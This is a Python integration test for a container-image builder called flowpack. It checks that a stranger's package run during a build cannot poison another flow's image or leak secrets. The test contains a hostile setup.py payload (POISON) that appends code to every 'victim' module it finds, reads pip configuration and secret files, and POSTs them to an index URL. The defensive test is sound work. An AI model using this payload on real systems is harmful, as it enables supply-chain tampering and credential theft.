"""Packages that a stranger wrote, in the real engine: what they run stays in a container of their own, or is refused."""

from __future__ import annotations

import contextlib
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import ThreadingHTTPServer
from pathlib import Path

import pytest

from flowpack.dependencies.target import Platform
from flowpack.errors import EngineError
from flowpack.images.build_stage import install_packages
from flowpack.images.engine import DockerEngine, ImageBuild
from flowpack.images.reference import ImageReference
from tests.commands import Done, flowpack
from tests.dependencies.packages import SimpleIndex, sha256, write_sdist, write_serving_wheels, write_wheel
from tests.integration.real_parts import Docker
from tests.paths import write_tree

pytestmark = [pytest.mark.engine, pytest.mark.network]

PASSWORD = "planted-in-the-pip-configuration-9e1d"
VARIABLE = "planted-in-a-variable-of-the-host-4c2a"

# Alters every copy of the module `victim` that it can reach, and tells the index what it found.
POISON = """
import os, pathlib, urllib.request
told = []
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        continue
    for name in names:
        if name == "victim.py" or name.startswith("victim-1.0"):
            path = pathlib.Path(folder, name)
            try:
                path.write_bytes(path.read_bytes() + b"\\npoisoned = True\\n")
                told.append(str(path))
            except OSError:
                pass
for path in ("/etc/pip.conf", "/run/secrets/ca-bundle"):
    if os.path.exists(path):
        told.append(pathlib.Path(path).read_text())
told.append("ran")
try:
    urllib.request.urlopen("INDEX/told", data="\\n".join(told).encode(), timeout=5)
except OSError:
    pass
from setuptools import setup
setup(name="hostile", version="1.0", py_modules=["hostile"])
"""


class TellingIndex(SimpleIndex):
    """An index that keeps what packages tell it."""

    told: list[str]

    def do_POST(self) -> None:
        self.told.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(200)
        self.end_headers()


class Index:
    def __init__(self, packages: Path, address: str, told: list[str]) -> None:
        self.packages = packages
        self.address = address
        self.told = told
        self.url = f"http://builder:{PASSWORD}@{address}/simple/"


@pytest.fixture(scope="session")
def tools(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, ...]:
    """The installer of the build stage, and what builds source distributions, as wheels for the local index."""
    folder = tmp_path_factory.mktemp("tools")
    lock = Path(install_packages.__file__).with_name("uv.lock")
    pip = (sys.executable, "-m", "pip", "download", "--quiet", "--no-deps", "--only-binary=:all:", "--dest", folder)
    subprocess.run((*pip, "--require-hashes", "-r", lock), check=True, cwd=folder)
    subprocess.run((*pip, "setuptools==78.1.1", "wheel==0.45.1"), check=True, cwd=folder)
    return tuple(sorted(folder.iterdir()))


@pytest.fixture
def index(tmp_path: Path, tools: tuple[Path, ...]) -> Iterator[Index]:
    """An index of this machine behind a password, with stand-ins for what serving needs."""
    packages = tmp_path / "index"
    write_serving_wheels(packages)
    for wheel in tools:
        (packages / wheel.name).symlink_to(wheel)
    told: list[str] = []
    handler = type("Handler", (TellingIndex,), {"wheels": packages, "told": told})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Index(packages, f"127.0.0.1:{server.server_port}", told)
    server.shutdown()
    server.server_close()


@pytest.fixture
def pip_config(tmp_path: Path, index: Index) -> Path:
    path = tmp_path / "pip.conf"
    path.write_text(f"[global]\nindex-url = {index.url}\n")
    return path


@pytest.fixture
def command(tmp_path: Path, building: dict[str, str], pip_config: Path) -> Callable[..., Done]:
    """``flowpack`` on a machine whose index is the local one, and whose variables hold a secret."""
    environment = {
        **building,
        "PIP_CONFIG_FILE": str(pip_config),
        "FLOWPACK_PIP_CONFIG": str(pip_config),
        "FLOWPACK_CACHE_DIR": str(tmp_path / "cache"),
        "UV_CACHE_DIR": str(tmp_path / "uv-cache"),
        "PIP_FIND_LINKS": "",
        "DEPLOY_TOKEN": VARIABLE,
    }

    def call(*arguments: str | Path, expect: int = 0, **more: str) -> Done:
        return flowpack(*arguments, cwd=tmp_path, env={**environment, **more}, expect=expect)

    return call


def flow_of(folder: Path, requirements: str, **files: str) -> Path:
    return write_tree(
        folder,
        {
            "flow.dag.yaml": "inputs: {}\noutputs: {}\nnodes: []\nenvironment:\n"
            "  python_requirements_txt: requirements.txt\n",
            "requirements.txt": requirements,
            **files,
        },
    )


def module_of(docker: Docker, image: ImageReference, module: str) -> str:
    python = ("run", "--rm", "--network=none", "--entrypoint=/opt/venv/bin/python", str(image), "-c")
    return docker(*python, f"import {module}; print(open({module}.__file__).read())")


@pytest.mark.attack("C2")
def test_what_one_flow_s_package_runs_cannot_reach_another_flow_s_image(
    command: Callable[..., Done],
    index: Index,
    pip_config: Path,
    engine: DockerEngine,
    docker: Docker,
    tmp_path: Path,
    image_name: Callable[..., ImageReference],
) -> None:
    write_wheel(index.packages, "victim", "1.0")
    flow = flow_of(tmp_path / "one", "victim==1.0\n")
    first = image_name()
    command("build", flow, "--tag", str(first), "--output", tmp_path / "out")
    assert "poisoned" not in module_of(docker, first, "victim")

    hostile = write_sdist(
        index.packages, "hostile", "1.0", {"setup.py": POISON.replace("INDEX", f"http://{index.address}")}
    )
    # By hand, since no lock of flowpack's names a source distribution.
    context = tmp_path / "out"
    with (context / "requirements.lock").open("a") as lock:
        lock.write(f"hostile==1.0 --hash={sha256(hostile)}\n")
    by_hand = ImageBuild(
        context=context,
        tag=image_name(),
        platform=Platform.of_this_machine(),
        secrets={"pip-config": pip_config},
        network="host",
    )
    with contextlib.suppress(EngineError):
        engine.build(by_hand)
    assert index.told == []

    second = image_name()
    command("build", flow, "--tag", str(second), "--no-cache")
    assert "poisoned" not in module_of(docker, second, "victim")
